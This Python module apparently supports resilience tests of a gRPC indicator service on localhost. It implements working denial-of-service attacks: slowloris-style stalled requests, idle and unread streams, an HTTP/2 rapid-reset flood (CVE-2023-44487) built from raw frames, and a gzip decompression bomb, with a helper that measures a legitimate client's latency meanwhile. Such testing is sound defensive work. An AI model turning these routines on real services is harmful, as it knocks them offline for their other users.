"""What somebody can do to a service who wants it to serve nobody else. Each attack is a context
manager: it is under way inside, and its connections are closed at the end."""
import contextlib
import socket
import threading
import time
import zlib

import grpc
from athena.indicator.v1 import indicator_service_pb2

import http2
import setting

INDICATORS = "/athena.indicator.v1.IndicatorService"
LIST = f"{INDICATORS}/ListIndicators"
PUSH = f"{INDICATORS}/PushObservations"
OBSERVATIONS = f"{INDICATORS}/ListObservations"
WATCH = f"{INDICATORS}/WatchObservations"
STREAMS = 100  # what a service takes of a connection at once


class Attack(contextlib.ExitStack):
    """Connections, and threads that use them until the end."""

    def __init__(self):
        super().__init__()
        self.ended = threading.Event()
        self.connections = []

    def connect(self, port):
        connection = http2.Connection(port)
        self.callback(connection.close)
        self.connections.append(connection)
        return connection

    def repeat(self, action):
        """Does something over and over, on a thread of its own, until the end or its own."""
        def run():
            with contextlib.suppress(OSError):
                while not self.ended.is_set() and action():
                    pass
        thread = threading.Thread(target=run, daemon=True)
        thread.start()
        self.callback(thread.join)
        self.callback(self.ended.set)


def silent_connections(port, count):
    """Half say nothing at all; the others say what a client says first, and then nothing: their peer
    has gone away, and nobody told the service."""
    attack = Attack()
    for number in range(count):
        if number % 2:
            attack.connect(port)
        else:
            attack.callback(socket.create_connection(("127.0.0.1", port), 30).close)
    return attack


def stalled_requests(port, connections, size, calls=STREAMS):
    """Calls without credential, so many on each connection, which send so many bytes of a request of
    4 MiB and then no more. They answer pings, so that the connection seems alive."""
    attack = Attack()
    attack.sent = 0
    for _ in range(connections):
        connection = attack.connect(port)
        left = {connection.call(PUSH, body=b"", length=4 << 20): size for _ in range(calls)}

        def send(connection=connection, left=left):
            for stream, missing in list(left.items()):
                sent = connection.send(stream, missing)
                left[stream] -= sent
                attack.sent += sent
                if left[stream] == 0:
                    del left[stream]
            return connection.read(0.01)

        attack.repeat(send)
    return attack


def idle_streams(port, connections, token):
    """Streams of pushes on which nothing is pushed, and feeds of changes that tell nothing."""
    attack = Attack()
    for number in range(connections):
        connection = attack.connect(port)
        for _ in range(STREAMS):
            if number % 2:
                connection.call(f"{INDICATORS}/StreamObservations", token)
            else:
                connection.call(WATCH, token, indicator_service_pb2.WatchObservationsRequest(
                    parent=setting.INSTITUTION).SerializeToString())
        attack.repeat(lambda connection=connection: connection.read(0.1))
    return attack


def answers_not_taken(port, connections, token):
    """Asks for large answers and takes none: no window is ever opened. Pings are answered."""
    attack = Attack()
    request = indicator_service_pb2.ListObservationsRequest(
        parent=f"{setting.INSTITUTION}/indicators/staff", page_size=10_000).SerializeToString()
    for _ in range(connections):
        connection = attack.connect(port)
        for _ in range(STREAMS):
            connection.call(OBSERVATIONS, token, request)
        attack.repeat(lambda connection=connection: connection.read(0.1))
    return attack


def resets(port, connections, calls, token):
    """Opens calls and cancels them at once (CVE-2023-44487), so many on each connection."""
    attack = Attack()
    attack.made = 0
    body = http2.message(b"")
    for _ in range(connections):
        connection = attack.connect(port)

        def flood(connection=connection):
            for first in range(0, calls, 50):
                if attack.ended.is_set():
                    break
                frames = []
                for _ in range(50):
                    stream = connection.next_stream
                    connection.next_stream += 2
                    frames.append(http2.frame(http2.HEADERS, http2.END_HEADERS, stream,
                                              http2.headers_of(LIST, token)))
                    frames.append(http2.frame(http2.DATA, http2.END_STREAM, stream, body))
                    frames.append(http2.frame(http2.RST_STREAM, 0, stream, http2.CANCEL))
                connection.socket.sendall(b"".join(frames))
                attack.made += 50
                while connection.read(0) and connection.received and not attack.ended.is_set():
                    pass
            return False

        attack.repeat(flood)
    return attack


def bomb(size):
    """gzip of so many zeros, made of a block that is repeated; its checksum is wrong, which nobody who
    stops at a limit gets to see."""
    block_size = 1 << 20
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(block_size)) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + block * (size // block_size) + end + bytes(8)


def bombs(channel, count, size, metadata):
    """Sends so many compressed requests at once; returns the errors."""
    call = channel.unary_unary(PUSH, lambda raw: raw, lambda raw: raw)
    packed = bomb(size)
    futures = [call.future(packed, metadata=metadata, timeout=30) for _ in range(count)]
    return [future.exception() for future in futures]


class Neighbour:
    """Somebody else, who calls the service all the time meanwhile; a context manager. Each call has a
    connection of its own every so often, as new clients have."""

    CALLS_OF_A_CONNECTION = 20

    def __init__(self, port, metadata):
        self.port, self.metadata = port, metadata
        self.seconds, self.errors = [], []
        self.ended = threading.Event()
        self.first = threading.Event()
        self.thread = threading.Thread(target=self._call, daemon=True)

    def _call(self):
        request = indicator_service_pb2.ListIndicatorsRequest(
            parent=setting.INSTITUTION).SerializeToString()
        while not self.ended.is_set():
            with grpc.insecure_channel(f"127.0.0.1:{self.port}",
                                       (("grpc.use_local_subchannel_pool", 1),)) as channel:
                call = channel.unary_unary(LIST, lambda raw: raw, lambda raw: raw)
                for _ in range(self.CALLS_OF_A_CONNECTION):
                    begun = time.monotonic()
                    try:
                        call(request, metadata=self.metadata, timeout=30)
                        self.seconds.append(time.monotonic() - begun)
                    except grpc.RpcError as error:
                        self.errors.append(error)
                    self.first.set()
                    if self.ended.is_set():
                        break

    def __enter__(self):
        self.thread.start()
        self.first.wait(30)
        return self

    def __exit__(self, *_):
        self.ended.set()
        self.thread.join()
